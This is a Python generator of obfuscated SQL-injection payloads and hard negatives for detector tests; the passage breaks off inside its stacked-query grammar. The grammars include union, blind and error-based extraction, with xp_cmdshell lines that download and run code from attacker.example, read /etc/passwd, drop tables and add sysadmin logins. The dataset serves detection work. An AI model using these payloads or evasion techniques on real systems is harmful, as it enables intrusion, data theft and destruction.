#!/usr/bin/env python3
"""Generates SQL-injection cases and hard negatives for the detection-quality tests.

Writes, next to this script:

* ``sqli_generated.jsonl``: SQL-injection payloads built from small grammars of the techniques,
  labels ``["sqli"]``; ``kind`` is ``sqli_bare`` (the payload alone), ``sqli_prompt`` (inside a
  natural-language request) or ``sqli_codeblock`` (inside a fenced code block); ``source`` is
  ``generated:<technique>`` and ``variant`` the technique.
* ``negatives_generated.jsonl``: prose, questions and code that look like SQL injection but are not,
  labels ``[]``, ``kind`` ``hard_negative``, ``source`` ``generated:<grammar>``, ``variant`` the subtype.

Every payload is assembled as entry + technique body + terminator, then obfuscations are applied
independently of each other (case mixing, inline comments, split keywords, versioned comments,
whitespace alternatives, URL / double URL / HTML-entity encoding, typographic quotes); string
literals inside bodies are rendered as plain literals, ``char()`` / ``chr()`` lists or hex.

Python 3 standard library only; the output depends only on ``SEED`` (each technique and each
negative grammar draws from its own generator, so changing one leaves the others as they were).
Run ``python3 generate_sqli.py`` (``--check`` validates the written files without rewriting them).
"""

from __future__ import annotations

import json
import random
import re
import sys
import urllib.parse
from dataclasses import dataclass
from pathlib import Path

SEED = 20240917
HERE = Path(__file__).resolve().parent
SQLI_FILE = HERE / "sqli_generated.jsonl"
NEG_FILE = HERE / "negatives_generated.jsonl"

# Items per technique (about 1,200 in all) and per negative subtype (at least 600 in all).
TECHNIQUE_COUNTS = {
    "tautology": 150,
    "blind": 120,
    "subquery": 100,
    "error": 120,
    "union": 150,
    "stacked": 120,
    "order_probe": 80,
    "time": 120,
    "dbms_specific": 100,
    "file": 80,
    "comment_truncation": 80,
}


def rng_for(name: str) -> random.Random:
    return random.Random(f"{SEED}:{name}")


def hexs(text: str) -> str:
    return "0x" + text.encode().hex()


# --------------------------------------------------------------------------------------------
# Payload grammar: entry, string literals, terminators
# --------------------------------------------------------------------------------------------

NUM_VALUES = ["1", "1", "2", "3", "5", "10", "42", "100", "-1", "0", "999", "1337", "2048", "7"]
STR_VALUES = ["admin", "test", "x", "abc", "john", "", "guest", "alice", "shoes", "1", "foo", "red"]
TABLES = ["users", "accounts", "members", "customers", "orders", "admin", "staff", "tbl_users",
          "products", "clients", "employees", "logins"]
COLUMNS = ["username", "name", "email", "login", "id", "user_name", "uname", "title", "pass",
           "token", "secret", "role"]
WORDS = ["a", "x", "abc", "admin", "yes", "test", "qwe", "zz", "root", "foo"]


@dataclass
class Entry:
    value: str
    quote: str
    parens: int

    def text(self) -> str:
        return f"{self.value}{self.quote}{')' * self.parens}"


def entry(rng: random.Random, quotes=("'", "'", "'", '"', "`", ""), max_parens=3,
          numeric_only=False) -> Entry:
    quote = "" if numeric_only else rng.choice(quotes)
    if quote == "":
        value = rng.choice(NUM_VALUES + [str(rng.randint(1, 9999))])
    else:
        value = rng.choice(STR_VALUES + NUM_VALUES[:6])
    weights = [6, 3, 2, 1][: max_parens + 1]
    parens = rng.choices(range(len(weights)), weights=weights)[0]
    return Entry(value, quote, parens)


def lit(rng: random.Random, text: str, dialect: str = "mysql", quote: str = "'",
        encode: float = 0.3) -> str:
    """A string literal: plain, or as char()/chr() codes or hex, in the given dialect."""
    if rng.random() >= encode:
        return f"{quote}{text}{quote}"
    codes = [ord(c) for c in text]
    if dialect == "mysql":
        form = rng.choice(["char", "hex", "concat_char"])
        if form == "char":
            return "char(" + ",".join(map(str, codes)) + ")"
        if form == "hex":
            return hexs(text)
        return "concat(" + ",".join(f"char({c})" for c in codes) + ")"
    if dialect == "mssql":
        if rng.random() < 0.5:
            return "+".join(f"char({c})" for c in codes)
        return hexs(text)
    # oracle, postgres, sqlite
    return "||".join(f"chr({c})" for c in codes)


def terminator(rng: random.Random, e: Entry | None, allow_closing: bool = True,
               comment_bias: float = 0.5) -> str:
    """A terminator: a comment, a null byte, nothing, or a condition that re-balances the quote
    and the parentheses the entry left open (`1')) or (('a'='a`)."""
    if allow_closing and e is not None and (e.quote or e.parens) and rng.random() < 0.2:
        conj = rng.choice(["and", "and", "or", "&&"])
        opening = "(" * e.parens
        if e.quote:
            w = rng.choice(WORDS)
            return f" {conj} {opening}{e.quote}{w}{e.quote}={e.quote}{w}"
        n = rng.randint(1, 99)
        return f" {conj} {opening}{n}={n}"
    if rng.random() < comment_bias:
        return rng.choice([" --", " -- -", "--", "-- -", "#", " #", " /*", "--+", ";--", " -- x",
                           ";%00", "%00", " --+", ";#"])
    return ""


# --------------------------------------------------------------------------------------------
# Obfuscations
# --------------------------------------------------------------------------------------------

KEYWORDS = {
    "select", "union", "all", "distinct", "distinctrow", "from", "where", "and", "or", "xor", "not",
    "order", "group", "by", "having", "limit", "offset", "like", "rlike", "regexp", "between", "in",
    "is", "null", "true", "false", "case", "when", "then", "else", "end", "if", "exists", "as",
    "into", "outfile", "dumpfile", "exec", "execute", "declare", "set", "waitfor", "delay", "drop",
    "table", "insert", "values", "update", "delete", "use", "shutdown", "top", "cast", "convert",
    "dual", "int", "varchar", "nvarchar", "char", "chr", "concat", "sleep", "benchmark", "version",
    "user", "database", "substring", "substr", "mid", "ascii", "ord", "length", "floor", "rand",
    "count", "extractvalue", "updatexml", "load_file", "copy", "program", "to", "rownum", "desc",
    "asc", "with", "nowait", "master", "current_user", "system_user", "session_user", "schema",
    "pg_sleep", "randomblob", "hex", "upper", "lower", "min", "exp", "procedure", "begin", "create",
}

SPACE_ALTS = ["/**/", "/**/", "/*x*/", "/*--*/", "\t", "\n", "%0a", "%09", "%a0", "%20", "+",
              "  ", "%0d%0a", "%0b", "%0c"]

LITERAL_RE = re.compile(r"('(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\")")
WORD_RE = re.compile(r"[A-Za-z_@$][A-Za-z0-9_$@.]*")


def code_segments(body: str) -> list[tuple[bool, str]]:
    """Splits a body into (is_literal, text) runs; transforms touch code runs only."""
    out = []
    pos = 0
    for m in LITERAL_RE.finditer(body):
        if m.start() > pos:
            out.append((False, body[pos:m.start()]))
        out.append((True, m.group(0)))
        pos = m.end()
    if pos < len(body):
        out.append((False, body[pos:]))
    return out


def map_code(body: str, fn) -> str:
    return "".join(text if is_lit else fn(text) for is_lit, text in code_segments(body))


def is_keyword(word: str) -> bool:
    return word.lower() in KEYWORDS or word.lower().startswith("@@")


def restyle(rng: random.Random, body: str, style: str) -> str:
    def word(m: re.Match) -> str:
        w = m.group(0)
        if not is_keyword(w) and not (m.end() < len(m.string) and m.string[m.end()] == "("):
            return w
        if style == "upper":
            return w.upper()
        if style == "lower":
            return w.lower()
        if style == "title":
            return w.capitalize()
        if style == "alternate":
            return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(w))
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in w)

    return map_code(body, lambda code: WORD_RE.sub(word, code))


def keyword_spans(code: str, min_len: int = 4, only: set[str] | None = None) -> list[re.Match]:
    return [m for m in WORD_RE.finditer(code)
            if is_keyword(m.group(0)) and len(m.group(0)) >= min_len and not m.group(0).startswith("@")
            and (only is None or m.group(0).lower() in only)]


def transform_one_keyword(rng: random.Random, body: str, fn, only: set[str] | None = None) -> str:
    """Applies `fn` to one keyword (chosen at random) in the code runs of `body`."""
    segs = code_segments(body)
    choices = [(i, m) for i, (is_lit, text) in enumerate(segs) if not is_lit
               for m in keyword_spans(text, only=only)]
    if not choices:
        return body
    i, m = rng.choice(choices)
    text = segs[i][1]
    segs[i] = (False, text[:m.start()] + fn(m.group(0)) + text[m.end():])
    return "".join(t for _, t in segs)


def split_keyword(rng: random.Random, body: str) -> str:
    def split(w: str) -> str:
        k = rng.randint(1, len(w) - 1)
        return w[:k] + rng.choice(["/**/", "/**/", "/*!*/"]) + w[k:]
    body = transform_one_keyword(rng, body, split, {"union", "select", "sleep", "where", "from",
                                                    "order", "waitfor", "benchmark", "concat",
                                                    "substring", "extractvalue", "updatexml"})
    return body


def versioned(rng: random.Random, body: str) -> str:
    def wrap(w: str) -> str:
        ver = rng.choice(["50000", "50000", "40000", "12345", "32302", "50001", "", ""])
        return f"/*!{ver}{w}*/"
    body = transform_one_keyword(rng, body, wrap, {"union", "select", "and", "or", "from", "sleep",
                                                   "order", "concat", "where", "having", "group"})
    if rng.random() < 0.4:
        body = transform_one_keyword(rng, body, wrap, {"union", "select", "from", "and", "or"})
    return body


def nested_keyword(rng: random.Random, body: str) -> str:
    """Filter-evasion doubling: a filter that deletes `union` once leaves UNIunionON -> UNION."""
    def nest(w: str) -> str:
        k = rng.randint(1, len(w) - 1)
        inner = w.lower() if w.isupper() else w.upper()
        return w[:k] + inner + w[k:]
    body = transform_one_keyword(rng, body, nest, {"union", "select", "and", "or", "sleep", "from"})
    if rng.random() < 0.5:
        body = transform_one_keyword(rng, body, nest, {"union", "select", "from"})
    return body


def replace_spaces(rng: random.Random, body: str) -> str:
    if rng.random() < 0.7:
        alt = rng.choice(SPACE_ALTS)
        return map_code(body, lambda code: code.replace(" ", alt))
    return map_code(body, lambda code: re.sub(" ", lambda _m: rng.choice(SPACE_ALTS), code))


def quote_entities(rng: random.Random, text: str) -> str:
    single = rng.choice(["&#39;", "&#x27;", "&apos;", "&#039;"])
    double = rng.choice(["&quot;", "&#34;", "&#x22;"])
    return text.replace("'", single).replace('"', double)


def typographic(rng: random.Random, text: str) -> str:
    if rng.random() < 0.5:
        single, double = "\u2019", "\u201d"
        return text.replace("'", single).replace('"', double)
    # Opening and closing forms alternate, as a word processor would set them.
    out = []
    flip = {"'": False, '"': False}
    for c in text:
        if c in flip:
            out.append(("\u2018" if not flip[c] else "\u2019") if c == "'" else
                       ("\u201c" if not flip[c] else "\u201d"))
            flip[c] = not flip[c]
        else:
            out.append(c)
    return "".join(out)


def url_encode(rng: random.Random, text: str) -> str:
    mode = rng.choice(["whole", "whole", "parts", "parts", "parts", "plus", "double", "double_parts"])
    if mode == "whole":
        return urllib.parse.quote(text, safe="")
    if mode == "plus":
        return urllib.parse.quote_plus(text, safe="")
    if mode == "double":
        return urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
    chars = set(rng.sample(["'", '"', " ", "=", "#", "(", ")", ";", ",", "-", "*", "/"],
                           k=rng.randint(2, 6))) | {"'"}
    if mode == "double_parts":
        return "".join("%25" + f"{ord(c):02X}" if c in chars else c for c in text)
    return "".join(f"%{ord(c):02X}" if c in chars else c for c in text)


@dataclass
class Obfuscation:
    """How strongly each technique is obfuscated (probabilities of the independent transforms)."""
    case: float = 0.3
    spaces: float = 0.22
    split: float = 0.06
    versioned: float = 0.07
    nested: float = 0.03
    entities: float = 0.05
    typographic: float = 0.05
    url: float = 0.1


def obfuscate_body(rng: random.Random, body: str, ob: Obfuscation) -> tuple[str, bool]:
    """Returns the transformed body and whether a %-encoded whitespace was used."""
    base = rng.choice(["lower", "lower", "upper"])
    body = restyle(rng, body, rng.choice(["random", "random", "alternate", "title"])
                   if rng.random() < ob.case else base)
    if rng.random() < ob.split:
        body = split_keyword(rng, body)
    if rng.random() < ob.versioned:
        body = versioned(rng, body)
    if rng.random() < ob.nested:
        body = nested_keyword(rng, body)
    percent = False
    if rng.random() < ob.spaces:
        body = replace_spaces(rng, body)
        percent = "%" in body
    return body, percent


def assemble(rng: random.Random, e: Entry | None, body: str, term: str, ob: Obfuscation,
             sep: str | None = None) -> str:
    """Entry + body + terminator, each obfuscation applied with its own probability."""
    body, percent = obfuscate_body(rng, body, ob)
    if e is None:
        text = body + term
    else:
        if sep is None:
            glue = (e.quote or e.parens) and rng.random() < 0.25
            sep = "" if glue else " "
        if sep == " " and rng.random() < ob.spaces / 2:
            sep = rng.choice(SPACE_ALTS)
        text = e.text() + sep + body + term
    r = rng.random()
    if r < ob.entities:
        text = quote_entities(rng, text)
    elif r < ob.entities + ob.typographic:
        text = typographic(rng, text)
    elif r < ob.entities + ob.typographic + ob.url and not percent and "\n" not in text:
        text = url_encode(rng, text)
    return text


# --------------------------------------------------------------------------------------------
# Technique grammars: each returns one payload
# --------------------------------------------------------------------------------------------

DB_FUNCS = ["version()", "user()", "database()", "current_user", "@@version", "system_user()",
            "schema()", "session_user", "current_database()", "db_name()", "@@hostname",
            "@@datadir", "current_user()", "@@servername", "sqlite_version()", "user"]
SUBSTR = ["substring", "substr", "mid"]


def taut_expr(rng: random.Random, q: str) -> str:
    a = rng.randint(1, 9999)
    b = a + rng.randint(1, 50)
    w = rng.choice(WORDS)
    w2 = rng.choice(WORDS)
    qq = q if q in ("'", '"') else "'"
    s = lambda t: lit(rng, t, rng.choice(["mysql", "mysql", "mssql", "oracle"]), qq, encode=0.25)
    forms = [
        lambda: "1=1",
        lambda: f"{a}={a}",
        lambda: f"{b}>{a}",
        lambda: "2>1",
        lambda: f"{a}<>{b}",
        lambda: f"{a}!={b}",
        lambda: f"not {a}={b}",
        lambda: "not false",
        lambda: "!0",
        lambda: "!(1=2)",
        lambda: "true",
        lambda: "1",
        lambda: "not 0",
        lambda: f"{s(w)}={s(w)}",
        lambda: f"{qq}{w}{qq}={qq}{w}{qq}",
        lambda: f"{qq}{qq}={qq}{qq}",
        lambda: f"{a} like {a}",
        lambda: f"{qq}{w}{qq} like {qq}{w[0]}%{qq}",
        lambda: f"{a} between {a - 1} and {b}",
        lambda: f"{a} in ({a},{b})",
        lambda: f"{qq}{w}{qq} in ({qq}{w}{qq},{qq}{w2}{qq})",
        lambda: f"{a} is not null",
        lambda: "null is null",
        lambda: f"length({qq}{w}{qq})={len(w)}",
        lambda: f"ascii({qq}{w[0]}{qq})={ord(w[0])}",
        lambda: f"ord({qq}{w[0]}{qq})={ord(w[0])}",
        lambda: "abs(-1)=1",
        lambda: f"{a + 5}-5={a}",
        lambda: f"{a}*2={2 * a}",
        lambda: f"{qq}{w}{qq}||{qq}{w2}{qq}={qq}{w}{w2}{qq}",
        lambda: f"char({ord(w[0])})={qq}{w[0]}{qq}",
        lambda: f"{hexs(w)}={hexs(w)}",
        lambda: f"upper({qq}{w}{qq})={qq}{w.upper()}{qq}",
        lambda: f"{a} rlike {a}",
        lambda: f"{qq}a{qq}<{qq}b{qq}",
        lambda: "pi()>3",
        lambda: "exists(select 1)",
        lambda: f"{a} regexp {qq}^{str(a)[0]}{qq}",
        lambda: "1 is true",
        lambda: "isnull(null)",
        lambda: "coalesce(null,1)=1",
    ]
    return rng.choice(forms)()


def g_tautology(rng: random.Random) -> str:
    e = entry(rng)
    conj = rng.choices(["or", "||", "and", "xor", "OR", "&&"], weights=[10, 2, 3, 1, 2, 1])[0]
    expr = taut_expr(rng, e.quote)
    if rng.random() < 0.15:
        body = f"{conj}({expr})"
    elif rng.random() < 0.12:
        body = f"{conj} ({expr})"
    else:
        body = f"{conj} {expr}"
    if rng.random() < 0.1:
        body += rng.choice([" limit 1", " order by 1", " group by 1", " limit 0,1"])
    term = terminator(rng, e, comment_bias=0.55)
    if term == "" and e.quote and rng.random() < 0.5:
        # `admin' or 'x'='x` style: the trailing quote is left for the application to close.
        w = rng.choice(WORDS)
        body = f"{conj} {e.quote}{w}{e.quote}={e.quote}{w}"
        return assemble(rng, e, body, "", Obfuscation())
    return assemble(rng, e, body, term, Obfuscation())


def blind_expr(rng: random.Random) -> str:
    fn = rng.choice(DB_FUNCS)
    sub = rng.choice(SUBSTR)
    pos = rng.randint(1, 12)
    c = rng.randint(47, 122)
    n = rng.randint(1, 40)
    t = rng.choice(TABLES)
    col = rng.choice(COLUMNS)
    op = rng.choice([">", "<", "=", ">=", "<=", "<>"])
    forms = [
        lambda: f"ascii({sub}({fn},{pos},1)){op}{c}",
        lambda: f"ord({sub}({fn},{pos},1)){op}{c}",
        lambda: f"length({fn}){op}{n}",
        lambda: f"char_length({fn})={n}",
        lambda: f"{sub}({fn},1,1)={rng.randint(1, 9)}",
        lambda: f"if(ascii({sub}({fn},{pos},1))>{c},1,0)",
        lambda: f"if(length({fn})>{n},1,0)=1",
        lambda: f"(case when ascii({sub}({fn},{pos},1))>{c} then 1 else 0 end)=1",
        lambda: f"1=(case when length({fn})={n} then 1 else 0 end)",
        lambda: f"(select ascii({sub}({fn},{pos},1))){op}{c}",
        lambda: f"bit_length({fn})>{n * 8}",
        lambda: f"{fn} like {hexs(str(rng.randint(1, 9)) + '%')}",
        lambda: f"ascii(lower({sub}({fn},{pos},1))){op}{c}",
        lambda: f"(select length({fn}))={n}",
        lambda: f"{fn} is not null",
        lambda: f"unicode(substr(sqlite_version(),{pos},1))>{c}",
        lambda: f"(select count(*) from information_schema.tables where table_schema=database())>{n}",
        lambda: f"ascii(substring((select table_name from information_schema.tables limit {n},1),{pos},1))>{c}",
        lambda: f"ascii(substr((select {col} from {t} limit 1),{pos},1)){op}{c}",
        lambda: f"ascii(substring((select top 1 {col} from {t}),{pos},1))>{c}",
        lambda: f"(select count(*) from {t})>{n}",
        lambda: f"greatest(ascii(mid({fn},{pos},1)),{c})={c}",
        lambda: f"strcmp({sub}({fn},{pos},1),char({c}))=0",
        lambda: f"{fn} regexp {hexs('^' + str(rng.randint(5, 8)))}",
        lambda: f"length((select {col} from {t} limit 1))>{n}",
        lambda: f"ascii(substr((select banner from v$version where rownum=1),{pos},1))>{c}",
        lambda: f"if(({sub}({fn},{pos},1))=char({c}),1,0)=1",
        lambda: f"elt(ascii({sub}({fn},{pos},1))>{c},1)",
        lambda: f"exists(select * from {t} where ascii({sub}({col},1,1))>{c})",
        lambda: f"{fn}>char({c})",
    ]
    return rng.choice(forms)()


def g_blind(rng: random.Random) -> str:
    e = entry(rng, numeric_only=True, max_parens=1)
    conj = rng.choices(["and", "or", "&&", "||", "AND"], weights=[8, 4, 1, 1, 2])[0]
    expr = blind_expr(rng)
    body = f"{conj}({expr})" if rng.random() < 0.12 else f"{conj} {expr}"
    term = terminator(rng, e, comment_bias=0.35)
    return assemble(rng, e, body, term, Obfuscation())


def subquery_expr(rng: random.Random, q: str) -> str:
    t = rng.choice(TABLES)
    col = rng.choice(COLUMNS)
    fn = rng.choice(DB_FUNCS[:12])
    n = rng.randint(0, 50)
    qq = "'"
    forms = [
        lambda: "1=(select 1)",
        lambda: f"1=(select count(*) from {t})",
        lambda: f"{n}=(select {n})",
        lambda: "1=(select 1 from dual)",
        lambda: f"(select top 1 {col} from {t})>0",
        lambda: "(select top 1 name from sysobjects where xtype=char(85))>0",
        lambda: f"(select top 1 table_name from information_schema.tables)>{n}",
        lambda: f"1=(select cast(count(*) as int) from {t})",
        lambda: f"1=convert(int,(select top 1 {col} from {t}))",
        lambda: f"{n}<(select count(*) from {t})",
        lambda: f"{qq}a{qq}||(select {qq}b{qq})={qq}ab{qq}",
        lambda: f"(select {qq}a{qq}+{qq}b{qq})={qq}ab{qq}",
        lambda: f"{qq}x{qq}+(select top 1 {col} from {t})={qq}x{qq}",
        lambda: f"(select {col} from {t} limit 1)||{qq}x{qq}={qq}x{qq}",
        lambda: "1=(select 1 where 1=1)",
        lambda: f"exists(select * from {t})",
        lambda: f"exists(select {col} from {t} where {col} like {hexs('a%')})",
        lambda: f"{n} in (select {n})",
        lambda: f"1=(select 1 from {t} where rownum=1)",
        lambda: f"(select cast({fn} as varchar(50)))>{qq}{n}{qq}",
        lambda: f"(select {fn}::text)<>{qq}{qq}",
        lambda: f"0<(select ascii(substring({fn},1,1)))",
        lambda: f"(select top 1 cast({col} as nvarchar(4000))+char(32) from {t})>0",
        lambda: f"(select count({col}) from {t} where {col}>char({rng.randint(65, 90)}))>0",
        lambda: "1=(select count(*) from (select 1 union select 2)x)-1",
        lambda: f"(select 1 from {t} limit 1)=1",
        lambda: f"1=(select case when (select count(*) from {t})>{n} then 1 else 0 end)",
        lambda: f"(select convert(varchar,{fn}))+{qq}{qq}>{qq}{qq}",
        lambda: f"{n}=(select {n} from (select {col} from {t})t limit 1)",
        lambda: f"(select min({col}) from {t}) is not null",
        lambda: f"(select concat({col},0x3a) from {t} limit 1)<>0x00",
    ]
    return rng.choice(forms)()


def g_subquery(rng: random.Random) -> str:
    e = entry(rng, quotes=("'", "'", "", "", "", '"'), max_parens=2)
    conj = rng.choices(["or", "and", "OR", "AND", "||"], weights=[5, 5, 1, 1, 1])[0]
    expr = subquery_expr(rng, e.quote)
    body = f"{conj} {expr}" if rng.random() < 0.85 else f"{conj}({expr})"
    term = terminator(rng, e, comment_bias=0.5)
    return assemble(rng, e, body, term, Obfuscation())


def error_expr(rng: random.Random) -> str:
    t = rng.choice(TABLES)
    col = rng.choice(COLUMNS)
    fn = rng.choice(["version()", "user()", "database()", "@@version", "current_user", "schema()"])
    tilde = rng.choice(["0x7e", "0x3a", "0x5c", "char(126)", "0x7171706a71"])
    inner = rng.choice([fn, f"(select {fn})", f"(select {col} from {t} limit 1)",
                        f"(select table_name from information_schema.tables limit {rng.randint(0, 9)},1)",
                        f"(select group_concat({col}) from {t})"])
    forms = [
        lambda: f"(select 1 from (select count(*),concat({inner},floor(rand(0)*2))x from information_schema.tables group by x)a)",
        lambda: f"(select count(*) from information_schema.columns group by concat({fn},{tilde},floor(rand(0)*2)))",
        lambda: f"row(1,1)>(select count(*),concat({inner},{tilde},floor(rand(0)*2))x from (select 1 union select 2)a group by x limit 1)",
        lambda: f"1=1 group by concat({fn},floor(rand(0)*2)) having min(0)",
        lambda: f"1 group by concat({inner},floor(rand(0)*2)) having min(0) or 1",
        lambda: f"extractvalue(1,concat({tilde},{inner}))",
        lambda: f"extractvalue(rand(),concat({tilde},{inner},{tilde}))",
        lambda: f"updatexml(1,concat({tilde},{inner}),1)",
        lambda: f"updatexml(null,concat({tilde},{inner},{tilde}),null)",
        lambda: "1=convert(int,@@version)",
        lambda: f"1=convert(int,(select top 1 {col} from {t}))",
        lambda: "1=convert(int,db_name())",
        lambda: "1=cast(db_name() as int)",
        lambda: "1=cast((select top 1 name from sysobjects) as int)",
        lambda: f"exp(~(select * from (select {fn})a))",
        lambda: f"exp(~(select * from (select {inner})x))",
        lambda: "1=ctxsys.drithsx.sn(1,(select user from dual))",
        lambda: "1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
        lambda: f"1=ctxsys.drithsx.sn(1,(select {col} from {t} where rownum=1))",
        lambda: "1=cast(version() as int)",
        lambda: "1=cast((select current_user)::text as int)",
        lambda: "(select version())::int=1",
        lambda: "1=cast(chr(126)||(select usename from pg_user limit 1) as numeric)",
        lambda: f"1=cast((select {col} from {t} limit 1) as int)",
        lambda: f"geometrycollection((select * from (select * from (select {fn})a)b))",
        lambda: f"polygon((select * from (select * from (select {fn})a)b))",
        lambda: f"gtid_subset(concat({tilde},{inner},{tilde}),1)",
        lambda: f"1=(select {inner}::int)",
        lambda: "xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))=1",
        lambda: "1=dbms_xdb_version.checkin((select banner from v$version where rownum=1))",
        lambda: f"(select 2*if((select * from (select concat({tilde},{inner},{tilde}))s),18446744073709551610,18446744073709551610))",
        lambda: f"1=convert(int,(char(58)+{inner if inner.startswith('(') else '(' + inner + ')'}))",
    ]
    return rng.choice(forms)()


def g_error(rng: random.Random) -> str:
    e = entry(rng, quotes=("'", "'", "", "", '"'), max_parens=2)
    conj = rng.choices(["and", "or", "AND", "OR", "&&"], weights=[8, 3, 2, 1, 1])[0]
    body = f"{conj} {error_expr(rng)}"
    if rng.random() < 0.1:
        body = rng.choice(["having 1=1", f"group by {rng.choice(COLUMNS)} having 1=1",
                           "having min(0)"])
    term = terminator(rng, e, comment_bias=0.55)
    return assemble(rng, e, body, term, Obfuscation())


UNION_INTERESTING = {
    "mysql": ["@@version", "version()", "user()", "database()", "concat(user(),0x3a,database())",
              "group_concat(table_name)", "concat_ws(0x3a,user(),version())", "@@datadir",
              "group_concat(column_name)", "concat(0x7e,@@version,0x7e)", "schema()",
              "group_concat({col},0x3a,{col2})", "{col}", "concat({col},char(58),{col2})"],
    "mssql": ["@@version", "db_name()", "system_user", "name", "user_name()", "{col}",
              "{col}+char(58)+{col2}", "host_name()"],
    "oracle": ["banner", "user", "table_name", "{col}", "{col}||chr(58)||{col2}", "owner"],
    "postgres": ["version()", "current_user", "current_database()", "string_agg({col},',')",
                 "{col}||':'||{col2}", "usename", "datname"],
    "sqlite": ["sqlite_version()", "group_concat(name)", "sql", "tbl_name", "{col}"],
}
UNION_FROM = {
    "mysql": ["", "", " from information_schema.tables", " from information_schema.columns where table_name={hex_t}",
              " from {t}", " from dual", " from mysql.db", " from information_schema.schemata"],
    "mssql": ["", " from {t}", " from sysobjects", " from master..sysdatabases", " from sys.tables"],
    "oracle": [" from dual", " from dual", " from v$version", " from all_tables", " from {t}", " from all_users"],
    "postgres": ["", " from {t}", " from pg_database", " from pg_user", " from information_schema.tables"],
    "sqlite": ["", " from sqlite_master", " from {t}", " from sqlite_master where type='table'"],
}


def g_union(rng: random.Random) -> str:
    dialect = rng.choices(list(UNION_INTERESTING), weights=[6, 2, 2, 2, 1])[0]
    e = entry(rng, quotes=("'", "'", "", "", "", '"', ")"), max_parens=2)
    if e.quote == ")":
        e = Entry(e.value, "", e.parens + 1)
    if not e.quote and rng.random() < 0.5:
        e.value = rng.choice(["-1", "0", "-9999", "9999999", "null", "1 and 1=2", "-1 and 0", str(-rng.randint(1, 9999))])
    n = rng.choices(range(1, 9), weights=[2, 3, 4, 3, 2, 2, 1, 1])[0]
    t = rng.choice(TABLES)
    col, col2 = rng.sample(COLUMNS, 2)
    filler = rng.choice(["null", "num", "num", "mixed", "str"])
    cols = []
    for i in range(n):
        if filler == "null":
            cols.append("null")
        elif filler == "num":
            cols.append(str(i + 1))
        elif filler == "str":
            cols.append(f"'{rng.choice(WORDS)}'" if rng.random() < 0.5 else "null")
        else:
            cols.append(rng.choice(["null", str(i + 1)]))
    if rng.random() < 0.8:
        k = rng.randrange(n)
        cols[k] = rng.choice(UNION_INTERESTING[dialect]).format(col=col, col2=col2)
    frm = rng.choice(UNION_FROM[dialect]).format(t=t, hex_t=hexs(t))
    if dialect == "oracle" and not frm:
        frm = " from dual"
    kw = rng.choices(["union select", "union all select", "union distinct select",
                      "union distinctrow select", "union(select", "nested", "UNION ALL SELECT"],
                     weights=[10, 6, 1, 1, 2, 2, 2])[0]
    col_list = ",".join(cols)
    if kw == "union(select":
        body = "union(select(" + "),(".join(cols) + f"){frm})" if not frm else f"union(select {col_list}{frm})"
    elif kw == "nested":
        u = rng.choice(["UNIunionON", "uniUNIONon", "UNunionION", "UNIONunion", "ununionion",
                        "UNIOUNIONN"])
        s = rng.choice(["SELSELECTECT", "selSELECTect", "SEselectLECT", "seselectlect", "SELECSELECTT"])
        all_ = rng.choice(["", " ALL", " all"])
        body = f"{u}{all_} {s} {col_list}{frm}"
    else:
        body = f"{kw} {col_list}{frm}"
    if rng.random() < 0.15:
        body += rng.choice([" limit 1", " limit 1,1", " limit 0,1", " where 1=1", " offset 1", " order by 1"])
    if dialect == "mysql" and rng.random() < 0.05:
        body = f"union select * from (select 1)a join (select {col_list.split(',')[0]})b"
    # Glued to the value: `1union select`, `-1'union select`.
    sep = "" if rng.random() < 0.15 else None
    term = terminator(rng, e, allow_closing=False, comment_bias=0.7)
    if e.quote and not term and rng.random() < 0.6:
        term = rng.choice([" and '1'='1", ",'x"]) if e.quote == "'" else " --"
    return assemble(rng, e, body, term, Obfuscation(nested=0.0), sep=sep)


def stacked_stmt(rng: random.Random) -> str:
    t = rng.choice(TABLES)
    col = rng.choice(COLUMNS)
    cmd = rng.choice(["whoami", "dir c:\\windows", "net user", "ipconfig", "ping -n 5 localhost",
                      "type c:\\boot.ini", "hostname", "certutil -urlcache -f http://attacker.example/x.exe x.exe",
                      "powershell -c iex(iwr attacker.example/s.ps1)", "nslookup data.attacker.example"])
    delay = rng.randint(2, 20)
    forms = [
        lambda: f"exec xp_cmdshell '{cmd}'",
        lambda: f"exec master..xp_cmdshell '{cmd}'",
        lambda: f"exec master.dbo.xp_cmdshell '{cmd}'",
        lambda: "exec master..xp_dirtree '\\\\attacker.example\\share'",
        lambda: "exec master..xp_fileexist 'c:\\boot.ini'",
        lambda: "exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'",
        lambda: "exec master..xp_servicecontrol 'start','schedule'",
        lambda: "exec sp_configure 'show advanced options',1;reconfigure",
        lambda: "exec sp_configure 'xp_cmdshell',1;reconfigure",
        lambda: "exec sp_addlogin 'eve','eve'",
        lambda: "exec sp_addsrvrolemember 'eve','sysadmin'",
        lambda: "use master",
        lambda: f"declare @x varchar(8000);set @x={hexs(f'waitfor delay {chr(39)}0:0:{delay}{chr(39)}')};exec(@x)",
        lambda: f"declare @q nvarchar(4000) select @q=0x{('select ' + col + ' from ' + t).encode().hex()} exec(@q)",
        lambda: "declare @s varchar(99) set @s=db_name() exec('select '+@s)",
        lambda: "shutdown",
        lambda: "shutdown with nowait",
        lambda: f"drop table {t}",
        lambda: f"drop table if exists {t}",
        lambda: f"insert into {t}({col},role) values('eve','admin')",
        lambda: f"insert into {t} values(999,'eve','x')",
        lambda: f"update {t} set role='admin' where {col}='eve'",
        lambda: f"update {t} set {col}='x'",
        lambda: f"delete from {t}",
        lambda: f"truncate table {t}",
        lambda: f"waitfor delay '0:0:{delay}'",
        lambda: f"waitfor delay '00:00:{delay:02d}'",
        lambda: f"select pg_sleep({delay})",
        lambda: f"create table x(y varchar(8000));insert into x exec master..xp_cmdshell '{cmd}'",
        lambda: "create user eve identified by 'x'",
        lambda: "alter login sa with password='x'",
        lambda: f"select * from {t}",
        lambda: "exec('sel'+'ect 1')",
        lambda: "begin declare @a int; select @a=1; end",
        lambda: "select load_file('/etc/passwd')",
        lambda: f"set @a=(select {col} from {t} limit 1)",
    ]
    return rng.choice(forms)()


def g_stacked(rng: random.Random) -> str:
    e = entry(rng, quotes=("'", "'", "", "", '"'), max_parens=2)
    stmts = [stacked_stmt(rng)]
    if rng.random() < 0.15:
